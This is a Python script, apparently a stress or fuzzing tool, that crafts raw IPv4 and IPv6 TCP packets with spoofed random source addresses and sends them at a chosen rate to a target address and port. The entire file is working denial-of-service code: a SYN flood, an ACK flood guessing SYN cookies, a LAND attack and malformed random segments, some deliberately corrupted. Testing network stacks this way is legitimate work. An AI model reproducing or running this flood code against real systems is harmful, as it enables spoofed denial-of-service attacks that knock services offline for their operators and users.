#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Floods that hping3 does not know: over IPv6, and segments that are random.

kernel_flood.py DEVICE KIND ADDRESS PORT SECONDS PER-SECOND writes packets straight to the device,
as if they came from anywhere, and prints how many. KIND is one of

    syn       SYNs from random hosts
    guess     ACKs with random numbers from random hosts: would-be cookies
    land      SYNs from the address and port they are sent to
    random    TCP headers with random flags, numbers, options and lengths; one in four is damaged
"""

import ipaddress
import os
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
BURST_SECONDS = 0.002


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total ^ 0xffff


class Wire:
    """Packets of one IP version to one host."""

    def __init__(self, address, rng):
        self.to, self.rng = ipaddress.ip_address(address), rng
        self.protocol = 0x0800 if self.to.version == 4 else 0x86dd

    def stranger(self):
        """Any host: of IPv4 not of the first or last addresses, which are nobody's."""
        if self.to.version == 4:
            return struct.pack('!I', self.rng.randrange(0x14000000, 0x7e000000))
        return b'\x20\x01' + self.rng.randbytes(14)

    def packet(self, source, segment):
        pseudo = source + self.to.packed + struct.pack('!II', len(segment), 6)
        segment = segment[:16] + struct.pack('!H', checksum(pseudo + segment)) + segment[18:]
        return self.header(source, len(segment)) + segment

    def header(self, source, length):
        if self.to.version == 6:
            return struct.pack('!IHBB', 6 << 28, length, 6, 64) + source + self.to.packed
        head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + length, 1, 0, 64, 6, 0)
        head += source + self.to.packed
        return head[:10] + struct.pack('!H', checksum(head)) + head[12:]


def segment(rng, ports, flags, **with_):
    options, data = with_.get('options', b''), with_.get('data', b'')
    ack = rng.getrandbits(32) if flags & ACK else 0
    return struct.pack('!HHIIBBHHH', *ports, rng.getrandbits(32), ack,
                       (20 + len(options)) << 2, flags, 65535, 0, 0) + options + data


def port(rng):
    return rng.randrange(1024, 65536)


def make_syn(wire, rng, to):
    options = b'\2\4\5\xb4\4\2\1\1' if rng.random() < 0.5 else b''
    return wire.packet(wire.stranger(), segment(rng, (port(rng), to), SYN, options=options))


def make_guess(wire, rng, to):
    return wire.packet(wire.stranger(), segment(rng, (port(rng), to), ACK))


def make_land(wire, rng, to):
    return wire.packet(wire.to.packed, segment(rng, (to, to), SYN))


def make_random(wire, rng, to):
    options = rng.randbytes(4 * rng.randrange(11))
    made = segment(rng, (port(rng), rng.choice((to, port(rng)))), rng.getrandbits(8),
                   options=options, data=rng.randbytes(rng.randrange(64)))
    made = wire.packet(wire.stranger(), made)
    if rng.random() < 0.25:
        at = rng.randrange(len(made))
        made = made[:at] + rng.randbytes(1) + made[at + 1:]
    return made


KINDS = {'syn': make_syn, 'guess': make_guess, 'land': make_land, 'random': make_random}


def main():
    device, kind, address, to, seconds, rate = sys.argv[1:]
    seed = int(os.environ.get('SEED', '1'))
    rng = random.Random(seed)
    wire = Wire(address, rng)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    where = (device, wire.protocol)
    begin, sent = time.monotonic(), 0
    while (now := time.monotonic() - begin) < float(seconds):
        # What is late is made up for, but never by more than a burst.
        due = min(int(now * int(rate)), sent + int(BURST_SECONDS * int(rate)) + 1)
        while sent < due:
            try:
                sock.sendto(KINDS[kind](wire, rng, int(to)), where)
            except OSError:  # the device has no room: that counts as sent and lost
                pass
            sent += 1
        time.sleep(BURST_SECONDS / 4)
    print(sent)


main()
